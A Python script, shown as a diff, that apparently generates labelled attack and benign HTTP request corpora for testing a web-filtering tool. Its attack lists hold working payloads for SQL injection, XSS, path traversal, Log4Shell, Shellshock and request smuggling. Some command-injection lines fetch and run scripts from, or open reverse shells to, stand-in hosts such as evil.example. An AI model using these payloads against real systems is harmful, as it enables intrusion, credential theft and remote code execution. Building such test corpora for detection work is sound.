@@ -1,0 +1,272 @@
+#!/usr/bin/env python3
+"""Writes attacks.txt and benign.txt (see README.md). Deterministic; edit the lists, re-run,
+review the diff. Payloads follow public cheat sheets (OWASP, PayloadsAllTheThings style)."""
+import json, random, urllib.parse as up
+
+random.seed(7)
+HOSTS = ["api.shop.internal", "web.corp.local", "app.example.com"]
+UAS = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
+       "curl/8.5.0", "python-requests/2.32.3", "okhttp/4.12.0", "Go-http-client/1.1",
+       "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"]
+
+def req(method, target, headers=(), body=None, ctype=None, host=None, ua=None):
+    h = [f"{method} {target} HTTP/1.1", f"Host: {host or random.choice(HOSTS)}",
+         f"User-Agent: {ua or random.choice(UAS)}", "Accept: */*"]
+    h += list(headers)
+    if ctype:
+        h.append(f"Content-Type: {ctype}")
+    out = "\n".join(h) + "\n\n"
+    if body is not None:
+        out += body
+    return out
+
+def q(v):
+    return up.quote(v, safe="")
+
+def form(d):
+    return up.urlencode(d)
+
+def multipart(fields, files=()):
+    b = "----meshguardB0undary7"
+    parts = []
+    for k, v in fields:
+        parts.append(f'--{b}\nContent-Disposition: form-data; name="{k}"\n\n{v}\n')
+    for k, fn, ct, data in files:
+        parts.append(f'--{b}\nContent-Disposition: form-data; name="{k}"; filename="{fn}"\nContent-Type: {ct}\n\n{data}\n')
+    return "".join(parts) + f"--{b}--\n", f"multipart/form-data; boundary={b}"
+
+def deliver(payload, i):
+    """Puts an attack payload into one of the places apps read input from."""
+    kind = i % 6
+    if kind == 0:
+        return req("GET", f"/search?q={q(payload)}&page=1")
+    if kind == 1:
+        return req("POST", "/login", body=form({"username": payload, "password": "x"}), ctype="application/x-www-form-urlencoded")
+    if kind == 2:
+        return req("POST", "/api/v1/items", body=json.dumps({"name": payload, "qty": 2}), ctype="application/json")
+    if kind == 3:
+        return req("GET", f"/product?id={q(payload)}")
+    if kind == 4:
+        return req("GET", "/account", headers=[f"Cookie: session=abc123; pref={q(payload)}"])
+    return req("PUT", "/api/v2/profile", body=json.dumps({"user": {"bio": payload}}), ctype="application/json")
+
+SQLI = [
+    "' OR '1'='1", "' OR 1=1-- -", "admin'--", "1' ORDER BY 3--+", "1 UNION SELECT null,null,version()--",
+    "' UNION ALL SELECT username,password FROM users--", "1; DROP TABLE users--", "1'; EXEC xp_cmdshell('dir')--",
+    "1 AND SLEEP(5)", "1' AND SLEEP(5) AND 'a'='a", "1; WAITFOR DELAY '0:0:5'--", "1' AND 1=(SELECT COUNT(*) FROM tabname); --",
+    "' AND extractvalue(1,concat(0x7e,(SELECT user())))--", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
+    "' OR 'x'='x", "\" OR \"\"=\"", "1) OR (1=1", "' OR 1=1#", "1' and substring(@@version,1,1)=5--",
+    "-1 UNION SELECT 1,2,3,4,5,6,7--", "1 OR pg_sleep(5)--", "'; SELECT pg_sleep(10)--", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
+    "' HAVING 1=1--", "' GROUP BY columnnames having 1=1 --", "admin' #", "' or ''='", "1 AND 1=2 UNION SELECT table_name FROM information_schema.tables",
+    "'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'", "1;SELECT * FROM users WHERE 't'='t", "' AND 1=CONVERT(int,@@version)--",
+    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "%27%20OR%201%3D1--", "1%2527%20OR%201%3D1",
+    "' uNiOn SeLeCt 1,2,3 --", "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--", "' or benchmark(10000000,MD5(1))#",
+    "1' AND (SELECT * FROM (SELECT(SLEEP(3)))bAKL)--", "'; INSERT INTO users VALUES('hax','hax')--",
+    "1 AND 5=5", "' AND 'a'='a", "1' OR '1'='1' /*", "'; UPDATE users SET role='admin' WHERE name='bob'--",
+    "1 UNION SELECT LOAD_FILE('/etc/passwd')", "' UNION SELECT 1,@@version,3 INTO OUTFILE '/var/www/shell.php'--",
+    "1)) OR ((1=1", "' OR id IS NOT NULL--", "-1' OR 3*2*1=6 AND 000111=000111--", "1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users),1,1))>64",
+]
+XSS = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(document.cookie)>",
+    "\"><script>alert(String.fromCharCode(88,83,83))</script>", "<body onload=alert('xss')>", "javascript:alert(1)",
+    "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">click</a>", "'\"><img src=x onerror=prompt(1)>",
+    "<svg/onload=alert`1`>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
+    "<video><source onerror=\"alert(1)\">", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%253Cscript%253Ealert(1)%253C/script%253E",
+    "<ScRiPt>alert(1)</sCrIpT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
+    "<object data=\"javascript:alert(1)\">", "<embed src=javascript:alert(1)>", "<div style=\"background:url(javascript:alert(1))\">",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "<svg><script>alert&#40;1&#41;</script>",
+    "<form action=javascript:alert(1)><input type=submit>", "<isindex action=javascript:alert(1) type=image>", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
+    "<audio src=1 onerror=alert(1)>", "<body onpageshow=alert(1)>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<style>@import 'javascript:alert(1)';</style>",
+    "<base href=\"javascript:alert(1)//\">", "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
+]
+TRAVERSAL = [
+    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", "..%252f..%252f..%252fetc%252fpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+    "/etc/passwd", "../../../../../../etc/passwd%00.png", "..%5c..%5c..%5cboot.ini", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
+    "file:///etc/passwd", "/proc/self/environ", "../../WEB-INF/web.xml", "C:\\Windows\\System32\\drivers\\etc\\hosts",
+    "../../../../var/log/apache2/access.log", "..;/..;/admin", "/../../../../home/user/.ssh/id_rsa", "report.pdf%00",
+    "....\\\\....\\\\windows\\\\win.ini",
+]
+CMD = [
+    "; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(whoami)", "; ls -la", "|nc -e /bin/sh 10.0.0.1 4444",
+    "127.0.0.1; ping -c 3 127.0.0.1", "; sleep 10", "a;wget http://evil.example/x.sh -O /tmp/x.sh", "|| curl http://evil.example/`whoami`",
+    "; /bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "$(curl -s http://evil.example/s|sh)", "%0Aid", "127.0.0.1%0acat%20/etc/passwd",
+    ";cat${IFS}/etc/passwd", "; c'a't /etc/passwd", ";/???/c?t /???/p??s??", "| powershell -enc SQBFAFgA", "& dir c:\\",
+    "; uname -a", "|| ping -n 5 127.0.0.1", "`sleep 5`", "; echo $((7*7))", "; python -c 'import os;os.system(\"id\")'",
+]
+LOG4J = [
+    "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/Exploit}", "${${lower:j}ndi:ldap://evil.example/x}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/p}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
+    "${jndi:dns://evil.example/x}", "${${upper:j}ndi:ldap://evil.example/}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+    "${j${k8s:k5:-ND}i:ldap://evil.example/}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/}",
+]
+
+attacks = []
+n = 0
+for group, payloads in (("sqli", SQLI), ("xss", XSS), ("path-traversal", TRAVERSAL), ("cmd-injection", CMD)):
+    for p in payloads:
+        attacks.append((group, deliver(p, n)))
+        n += 1
+for i, p in enumerate(LOG4J):
+    where = i % 3
+    if where == 0:
+        attacks.append(("log4shell", req("GET", "/", ua=p)))
+    elif where == 1:
+        attacks.append(("log4shell", req("GET", "/api/status", headers=[f"X-Api-Version: {p}"])))
+    else:
+        attacks.append(("log4shell", deliver(p, i)))
+SHELLSHOCK = ["() { :; }; /bin/bash -c 'cat /etc/passwd'", "() { :;}; echo vulnerable", "() { _; } >_[$($())] { id; }",
+              "() { :; }; /usr/bin/wget http://evil.example/x"]
+for i, p in enumerate(SHELLSHOCK):
+    hdr = ["User-Agent", "Referer", "Cookie", "X-Custom"][i % 4]
+    h = [f"{hdr}: {p}"] if hdr != "User-Agent" else []
+    attacks.append(("shellshock", req("GET", "/cgi-bin/status.cgi", headers=h, ua=p if hdr == "User-Agent" else None)))
+# Path traversal in the raw path.
+for p in ["/static/..%2f..%2f..%2fetc/passwd", "/images/../../../../etc/shadow", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+          "/download/%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini", "/..;/manager/html"]:
+    attacks.append(("path-traversal", req("GET", p)))
+SMUGGLE = [
+    "POST /search HTTP/1.1\nHost: web.corp.local\nContent-Length: 13\nTransfer-Encoding: chunked\n\n0\r\n\r\nSMUGGLED",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nContent-Length: 6\nContent-Length: 5\n\n12345G",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: xchunked\nContent-Length: 4\n\n5c\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding : chunked\n\n0\r\n\r\n",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: chunked\nTransfer-Encoding: identity\n\n0\r\n\r\n",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding:\tchunked\nContent-Length: 3\n\n0\r\n\r\n",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nX-Foo: bar\n Transfer-Encoding: chunked\n\n0\r\n\r\n",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: chunked\n\n0x5\r\nhello\r\n0\r\n\r\n",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: chunked\n\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nContent-Length: +12\n\nq=smuggled!!",
+    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: chunked, identity\n\n0\r\n\r\n",
+    "POST /search HTTP/1.0\nHost: web.corp.local\nTransfer-Encoding: chunked\n\n0\r\n\r\n",
+]
+for s in SMUGGLE:
+    attacks.append(("http-smuggling", s))
+attacks.append(("malformed-header", "GET / HTTP/1.1\nHost: a\nX-Inject: a\x00b\n\n"))
+attacks.append(("sqli", req("GET", "/", ua="Mozilla/5.0' AND SLEEP(5) AND '1'='1")))
+attacks.append(("sqli", req("GET", "/", headers=["Referer: http://x/' UNION SELECT password FROM users--"])))
+attacks.append(("xss", req("GET", "/", headers=["Referer: <script>alert(1)</script>"])))
+attacks.append(("sqli", req("GET", "/items?" + "id%27%20OR%201=1--=1")))
+attacks.append(("malformed-header", "GET / HTTP/1.1\nHost: a\nHost: b\n\n"))
+attacks.append(("oversized-header", req("GET", "/", headers=["X-Big: " + "A" * 9000])))
+
+# ---------------------------------------------------------------- benign
+benign = []
+NAMES = ["O'Brien", "D'Angelo", "Mary-Jane O'Neil", "José Álvarez", "Zoë Saldaña", "Nguyễn Văn An", "Müller-Lüdenscheidt",
+         "Renée D'Arcy", "Jean-Luc Picard", "Siobhán Ní Bhriain", "李小龍", "Αλέξανδρος", "Åsa Öberg", "O'Connor & Sons",
+         "Smith, John", "Ann-Marie St. John", "Dr. Martin Luther King Jr.", "André 3000", "Bob's Burgers", "Rock 'n' Roll"]
+SEARCHES = ["how to cook rice", "\"exact phrase\" search", "c++ vs c#", "50% off shoes", "tom & jerry", "why is 1+1=2",
+            "best laptop (2024)", "it's raining", "don't stop me now", "what's the select button", "drop shipping business",
+            "union station hours", "order by price", "where is the delete key", "SQL tutorial for beginners",
+            "update my address", "5' 11\" in cm", "a/b testing", "node.js vs deno", "price < 100", "rating >= 4",
+            "email@example.com", "100% cotton t-shirt", "#hashtag", "@mention", "coffee; tea", "cats | dogs", "R&D jobs",
+            "fish & chips near me", "The Lord of the Rings: The Two Towers", "résumé template", "naïve bayes", "1/2 cup to ml",
+            "2024-06-01", "user's guide", "select all that apply", "insert coin", "script writing course", "alert system for elderly",
+            "on sale", "onion rings recipe", "java script tutorial", "sleep 8 hours", "cat food", "ping pong table",
+            "echo dot", "how to use grep", "ls -la meaning", "what does sudo mean", "/etc/hosts file windows",
+            "../ in file paths explained", "C:\\Program Files", "the who live at leeds", "AT&T store", "M&M's", "Barnes & Noble",
+            "1' tall plant", "O'Reilly books", "rock'n'roll", "let's go", "I'm feeling lucky", "mother's day gifts",
+            "Men's Wear", "kids' toys", "don't panic", "can't stop", "'quoted'", "\"double quoted\"", "a -- b", "x = y + z",
+            "1 or 2 bedrooms", "drop-down menu", "select * from dreams", "or else", "and/or", "having fun", "group by color",
+            "<3 you", "i <3 nyc", "2 > 1", "=SUM(A1:A10)", "function() {}", "if (a && b) { }", "[link](http://x.y)",
+            "emoji 🎉🚀", "日本語のテキスト", "Привет мир", "مرحبا", "שלום", "ok; thanks", "call me at 555-1234"]
+
+for i, s in enumerate(SEARCHES):
+    benign.append(req("GET", f"/search?q={q(s)}&sort=relevance&page={i % 5 + 1}"))
+    if i % 2 == 0:
+        benign.append(req("GET", "/search?" + form({"q": s, "lang": "en"})))
+for i, nme in enumerate(NAMES):
+    benign.append(req("POST", "/signup", body=form({"name": nme, "email": f"user{i}@example.com", "password": "S3cure!pass#" + str(i), "agree": "on"}), ctype="application/x-www-form-urlencoded"))
+    benign.append(req("POST", "/api/v1/customers", body=json.dumps({"name": nme, "address": {"line1": f"{i+1} O'Farrell St.", "city": "San Francisco"}, "tags": ["vip", "b2b"]}), ctype="application/json"))
+    benign.append(req("PATCH", f"/api/v1/customers/{1000+i}", body=json.dumps({"displayName": nme, "note": "Prefers \"email\" contact; don't call after 6pm"}), ctype="application/merge-patch+json"))
+for i in range(30):
+    benign.append(req("DELETE", f"/api/v1/orders/{5000+i}", headers=["Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc" + str(i)]))
+    benign.append(req("PUT", f"/api/v1/orders/{5000+i}/status", body=json.dumps({"status": random.choice(["shipped", "cancelled", "returned"]), "reason": random.choice(["customer's request", "out of stock (backorder)", "address <unknown>", "n/a"])}), ctype="application/json"))
+MARKDOWN = [
+    "# Release notes\n\n* Fixed `select` dropdown on Safari\n* Use `git log --oneline` to view history\n\n```bash\nls -la && npm test\n```\n",
+    "To install run:\n\n```\ncurl -sSL https://get.example.com | sh\n```\nThen check `echo $PATH`.",
+    "SELECT statements should use parameters, e.g. `db.Query(\"SELECT * FROM users WHERE id = $1\", id)` instead of string concatenation.",
+    "<p>Hello <b>world</b>, this is <i>rich</i> text with a <a href=\"https://example.com\">link</a>.</p>",
+    "Use <code>&lt;script&gt;</code> tags carefully. In React use {value} and never dangerouslySetInnerHTML.",
+    "function add(a, b) { return a + b; }\nconst x = add(1, 2); // 3\nif (x > 2 && x < 4) { console.log('ok'); }",
+    "def main():\n    print('hello, world')\n    for i in range(10):\n        if i % 2 == 0: continue\n",
+    "The path is ../assets/logo.png relative to this file.", "Meeting notes: Q3 goals; hire 2 engineers; ship v2.0 -- by Oct 1st.",
+    "I'd like to return item #4512 because it's the wrong size (L instead of M).", "Formula: =IF(A1>10, \"high\", \"low\")",
+    "Dear team,\n\nPlease find the report attached. Revenue grew 12% QoQ; costs dropped 3%.\n\nBest,\nSam O'Neill",
+    "regex: ^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$", "C:\\Users\\alice\\Documents\\report.docx", "/home/alice/projects/meshguard/README.md",
+    "Price: $19.99 (was $29.99) -- save 33%!", "Use a tab\tand a newline\nin text.", "{\"nested\": \"json in a string\"}",
+    "<h1>Title</h1><ul><li>One</li><li>Two</li></ul><img src=\"/images/a.png\" alt=\"A\">",
+    "Call `kubectl get pods -n prod | grep web` to list them.", "Run `make test` then `./bin/app --help`.",
+]
+for i, md in enumerate(MARKDOWN):
+    benign.append(req("POST", "/api/v1/posts", body=json.dumps({"title": f"Post {i}", "body": md, "draft": i % 2 == 0}), ctype="application/json"))
+    benign.append(req("POST", "/comments", body=form({"comment": md, "post_id": str(100 + i)}), ctype="application/x-www-form-urlencoded"))
+for i in range(20):
+    body, ct = multipart([("title", f"Holiday photo {i}"), ("description", random.choice(["Me & my dog at the beach", "Sunset — it's gorgeous!", "O'Hare airport, 6am", "50% done"]))],
+                         [("file", random.choice(["IMG_20240601_123456.jpg", "report (final) v2.pdf", "résumé.docx", "data-2024.csv", "my file's name.png"]), random.choice(["image/jpeg", "application/pdf", "text/csv"]),
+                           random.choice(["\xff\xd8\xff\xe0JFIF binary data here ' OR 1=1 <script> random bytes", "id,name,comment\n1,O'Brien,\"likes; cats\"\n2,Smith,\"<none>\"\n", "%PDF-1.7 ... stream ... endstream"]))])
+    benign.append(req("POST", "/upload", body=body, ctype=ct))
+ANALYTICS = [
+    "/collect?v=2&tid=G-ABC123&cid=555.123&en=page_view&dl=https%3A%2F%2Fshop.example.com%2Fproducts%3Fid%3D42&dt=Shoes%20%26%20Boots%20%7C%20Shop&ul=en-us&sr=1920x1080",
+    "/pixel.gif?utm_source=newsletter&utm_medium=email&utm_campaign=summer_sale_2024&utm_content=hero%20banner",
+    "/track?event=click&props=%7B%22button%22%3A%22buy%20now%22%2C%22price%22%3A19.99%7D",
+    "/api/v1/events?filter=status%3Dactive%20AND%20type%3Dorder&fields=id,name,created_at&sort=-created_at&limit=50",
+    "/maps?q=37.7749%2C-122.4194&z=12", "/redirect?url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1%26b%3D2",
+    "/api/search?q=title:%22hello%20world%22%20AND%20author:smith&facets=year,lang",
+    "/graphql?query=%7Buser(id%3A%221%22)%7Bname%2Cemail%7D%7D", "/wp-json/wp/v2/posts?per_page=10&_embed=1",
+    "/api/v2/items?ids[]=1&ids[]=2&ids[]=3", "/calendar?from=2024-06-01T00:00:00Z&to=2024-06-30T23:59:59%2B02:00",
+    "/report?cols=revenue%2Ccost&where=region%20%3D%20%27EMEA%27", "/s?k=usb-c+cable+6ft&ref=nb_sb_noss",
+    "/watch?v=dQw4w9WgXcQ&t=42s&list=PL1234", "/api/v1/files?path=%2Fshared%2Fdocs%2FQ3%20report.pdf",
+    "/download?file=reports/2024/q3.pdf", "/img/thumb?src=/uploads/2024/06/photo.jpg&w=300&h=200&fit=crop",
+    "/oauth/callback?code=4%2F0AX4XfWh&state=xyz%3D%3D&scope=email%20profile%20openid",
+    "/api/geo?bbox=-122.52,37.70,-122.35,37.83", "/search?q=%E6%97%A5%E6%9C%AC&lang=ja",
+]
+for a in ANALYTICS:
+    benign.append(req("GET", a, headers=["Referer: https://shop.example.com/products?id=42&ref=home", "Cookie: _ga=GA1.2.12345.67890; _gid=GA1.2.987.654; cart=%7B%22items%22%3A3%7D; theme=dark"]))
+for i in range(25):
+    # Real-world cookies, tokens and headers.
+    benign.append(req("GET", f"/dashboard?tab={q(random.choice(['overview','billing','team members']))}", headers=[
+        "Cookie: sessionid=8f14e45fceea167a5a36dedd4bea2543; csrftoken=Q2hhbmdlTWUhIQ%3D%3D; prefs=lang%3Den%26tz%3DEurope%2FBerlin",
+        "X-Forwarded-For: 10.1.2.3, 192.168.0.7", "Accept-Language: en-US,en;q=0.9,fr;q=0.8", "X-Request-ID: " + "%032x" % random.getrandbits(128),
+        "If-None-Match: W/\"5e15153d-120f\"", "Cache-Control: no-cache", "Authorization: Basic dXNlcjpwYXNzd29yZA=="]))
+API_BODIES = [
+    {"query": "query GetUser($id: ID!) { user(id: $id) { name friends(first: 10) { edges { node { name } } } } }", "variables": {"id": "42"}},
+    {"filter": {"and": [{"field": "price", "op": ">=", "value": 10}, {"field": "name", "op": "contains", "value": "O'Neil"}]}},
+    {"sql_hint": "use index", "description": "Drop-in replacement for the old select box; union of both lists"},
+    {"password": "P@ss'w0rd\"; --", "confirm": "P@ss'w0rd\"; --"}, {"url": "https://example.com/a?b=c&d=e#f"},
+    {"html": "<div class=\"card\"><h2>Title</h2><p>Text &amp; more</p></div>"}, {"path": "src/main/java/com/example/App.java"},
+    {"expression": "a > b && c < d || !e"}, {"note": "meet @ 5pm; bring laptop & charger"}, {"cmd": "build", "args": ["--release", "--target", "x86_64"]},
+    {"template": "Hello {{name}}, your order #{{order_id}} has shipped!"}, {"email": "o'brien+test@example.co.uk"},
+    {"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-2", "qty": 1}], "coupon": "SAVE-20%"},
+    {"text": "It's 5 o'clock somewhere -- let's grab a drink; my treat!"}, {"comment": "LGTM :) merged into main; closing #123"},
+    {"title": "Why does `SELECT 1` return 1?", "tags": ["sql", "postgres"]},
+    {"bio": "Full-stack dev. I <3 Go & Rust. Ex-@bigco. He/him."}, {"address": "Flat 2/B, 10 Downing St., London SW1A 2AA"},
+    {"phone": "+1 (555) 010-9999 ext. 23"}, {"color": "#ff00aa", "font": "'Helvetica Neue', Arial, sans-serif"},
+]
+for i, b in enumerate(API_BODIES):
+    benign.append(req(random.choice(["POST", "PUT", "PATCH"]), f"/api/v1/resources/{i}", body=json.dumps(b), ctype="application/json"))
+    benign.append(req("POST", "/api/v1/batch", body=json.dumps([b, {"id": i}]), ctype="application/json; charset=utf-8"))
+for i in range(15):
+    body = "3\r\nabc\r\n5\r\n12345\r\n0\r\n\r\n"
+    benign.append(f"POST /api/stream HTTP/1.1\nHost: api.shop.internal\nTransfer-Encoding: chunked\nContent-Type: text/plain\n\n{body}")
+    benign.append(req("GET", f"/static/js/app.{'%08x' % random.getrandbits(32)}.js", headers=["Accept-Encoding: gzip, deflate, br", "Sec-Fetch-Mode: no-cors"]))
+    benign.append(req("HEAD", f"/healthz"))
+    benign.append(req("OPTIONS", "/api/v1/items", headers=["Origin: https://app.example.com", "Access-Control-Request-Method: DELETE", "Access-Control-Request-Headers: content-type, authorization"]))
+XML = ['<?xml version="1.0"?><order><id>42</id><customer>O\'Brien &amp; Co</customer></order>',
+       '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>']
+for x in XML:
+    for i in range(3):
+        benign.append(req("POST", "/xml/api", body=x, ctype="application/xml"))
+
+def write(path, rows, labelled):
+    with open(path, "w", encoding="utf-8", newline="\n") as f:
+        f.write("# generated by gen_corpus.py; format: README.md\n")
+        for row in rows:
+            label, r = row if labelled else ("benign", row)
+            f.write(f"### {label}\n{r}\n")
+
+write("attacks.txt", attacks, True)
+write("benign.txt", benign, False)
+print(len(attacks), "attacks,", len(benign), "benign")
